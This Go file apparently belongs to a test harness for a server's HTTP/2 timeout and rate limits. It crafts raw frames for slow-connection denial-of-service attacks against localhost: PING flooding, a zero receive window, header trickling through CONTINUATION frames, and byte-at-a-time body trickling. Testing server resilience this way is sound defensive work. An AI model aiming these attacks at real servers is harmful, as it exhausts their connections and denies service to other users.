package attack

import "encoding/binary"

// A stream of HTTP/2 that has passed a limit is reset. Then the connection has no
// stream, and is cut when the keep-alive wait is over.

// Types of frames, and their flags.
const (
	frameData, frameHeaders, framePing, frameContinuation = 0, 1, 6, 9

	endStream, endHeaders = 1, 4
)

// frame2 is a frame of HTTP/2 with a short payload.
func frame2(kind, flags byte, stream uint32, payload string) string {
	b := []byte{0, 0, byte(len(payload)), kind, flags}
	return string(binary.BigEndian.AppendUint32(b, stream)) + payload
}

// What a client says first. With a window of 0 it takes no response.
const (
	hello2   = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00"
	noWindow = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x06\x04\x00\x00\x00\x00\x00\x00\x04\x00\x00\x00\x00"
)

// The headers of requests for /2. The answer has two bytes.
const (
	get2  = "\x82\x87\x04\x02/2\x41\x09localhost"
	post2 = "\x83\x87\x04\x02/2\x41\x09localhost"
)

var ping2 = frame2(framePing, 0, 0, "12345678")

// pings pings for as long as it can.
func pings(a *attacker) { a.nag(hello2, a.KeepAlive, a.KeepAlive/5, ping2) }

// closedWindow asks for something, and lets none of it through.
func closedWindow(a *attacker) {
	a.nag(noWindow+frame2(frameHeaders, endHeaders|endStream, 1, get2), min(a.Write, a.Grace)+a.KeepAlive, a.Write/5, ping2)
}

// headerTrickles2 sends a header in as many frames as it can.
func headerTrickles2(a *attacker) {
	a.nag(hello2+frame2(frameHeaders, 0, 1, get2), min(a.Header, a.KeepAlive), a.Header/20, frame2(frameContinuation, 0, 1, "\x00\x01x\x01y"))
}

// bodyTrickles2 sends at a tenth of the minimum rate, or somewhat more, a byte to
// a frame.
func bodyTrickles2(a *attacker) {
	begun := a.send(hello2 + frame2(frameHeaders, endHeaders, 1, post2))
	a.limit(begun, begun.Add(min(a.Body, a.Grace)+a.KeepAlive))
	pause := min(10*pay(1, a.Rate), a.Body/2)
	for n := 1; a.rest(pause); n++ {
		t := a.send(frame2(frameData, 0, 1, "x"))
		if at := begun.Add(a.bodyPays(n)); t.Before(at) { // later ones come after the reset
			a.limit(t, first(t.Add(a.Body), at).Add(a.KeepAlive))
		}
	}
}
